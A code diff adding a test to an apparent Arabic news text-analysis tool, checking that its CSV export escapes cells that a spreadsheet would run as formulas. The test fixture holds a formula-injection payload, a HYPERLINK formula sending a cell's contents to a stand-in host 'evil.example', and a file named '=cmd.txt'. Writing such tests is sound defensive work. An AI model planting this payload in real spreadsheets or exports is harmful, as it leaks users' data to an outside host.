@@ -80,3 +80,20 @@ def test_analyze_writes_both_reports_from_the_command_line(repo_root, seeds_dir,
     assert done.returncode == 0, done.stderr
     assert "http" not in html_path.read_text(encoding="utf-8").lower()
     assert len(_rows(csv_path)) > 0
+
+
+def test_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(tmp_path):
+    (tmp_path / "=cmd.txt").write_text(
+        '=HYPERLINK("http://evil.example/?"&A1,"اضغط هنا")\n\n'
+        "+قتل 25 شخصا في الهجوم.\n-أصيب 30 آخرون بجروح.\n@أعلن الجيش مقتل 25 مسلحا.\n",
+        encoding="utf-8",
+    )
+    (tmp_path / "b.txt").write_text(
+        "\tعنوان الخبر\n\nقتل 25 شخصا في الهجوم على القرية.\n\rأصيب 30 آخرون بجروح.\n", encoding="utf-8"
+    )
+    out = tmp_path / "facts.csv"
+    write_csv(analyze_folder(tmp_path), out)
+    rows = _rows(out)
+    cells = [cell for row in rows for cell in row.values()]
+    assert rows and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'=cmd.txt" in {row["file"] for row in rows}
